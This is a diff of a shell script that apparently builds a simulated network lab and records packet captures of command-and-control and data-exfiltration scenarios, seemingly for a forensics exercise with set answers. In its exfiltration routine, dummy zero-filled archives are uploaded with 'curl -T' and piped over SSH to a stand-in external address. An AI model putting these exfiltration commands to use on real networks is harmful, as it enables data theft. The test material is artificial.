@@ -82,7 +82,7 @@ record_horizontal_scan() {
 c2_office() {
     text_file "$WORK/site/index.html" 1500
     local n
-    for n in 1 2 3 4 5 6; do text_file "$WORK/site/asset$n.png" $((n * 700)); done
+    for n in 1 2 3 4 5 6; do text_file "$WORK/site/asset$n.css" $((n * 700)); done
     host_up ws-21 21
     host_up ws-22 22
     web_up out site "$WORK/site" 198.51.100.10:80
@@ -149,10 +149,11 @@ record_exfiltration() {
     host_up ftp 11
     host_up backup 12
     host_up ws-77 77
-    zero_file "$WORK/share/projects.tar" 300M
-    zero_file "$WORK/pub/scans.tar" 200M
+    zero_file "$WORK/share/projects.tar" 360M
+    zero_file "$WORK/pub/scans.tar" 150M
     zero_file "$WORK/dump/db.dump" 180M
-    zero_file "$WORK/stage/part" 180M
+    zero_file "$WORK/stage/part" 186M
+    zero_file "$WORK/stage/rest" 60M
     smb_up fs data "$WORK/share"
     ftp_up ftp "$WORK/pub"
     rsync_up backup dump "$WORK/dump"
@@ -160,8 +161,9 @@ record_exfiltration() {
     daemon out sink "$HERE/client.py" serve --port 80
     wait_port out any 80
     merge_segments
-    capture_on sw br0 "$RAW" -s 96
-    smb ws-77 "$LAN4.10" data 'get projects.tar /dev/null' >/dev/null
+    # Long enough for the answer that names the port of an FTP transfer.
+    capture_on sw br0 "$RAW" -s 128
+    smb ws-77 "$LAN4.10" data 'get projects.tar /dev/null' >/dev/null 2>&1
     sleep 4
     on ws-77 curl -s -o /dev/null "ftp://$LAN4.11/scans.tar"
     sleep 4
@@ -172,7 +174,7 @@ record_exfiltration() {
         on ws-77 curl -s -o /dev/null -T "$WORK/stage/part" "http://$to/incoming/part.bin"
         sleep 4
     done
-    ssh_to ws-77 203.0.113.222 'cat >/dev/null' <"$WORK/stage/part"
+    ssh_to ws-77 203.0.113.222 'cat >/dev/null' <"$WORK/stage/rest"
     capture_end
 }
 
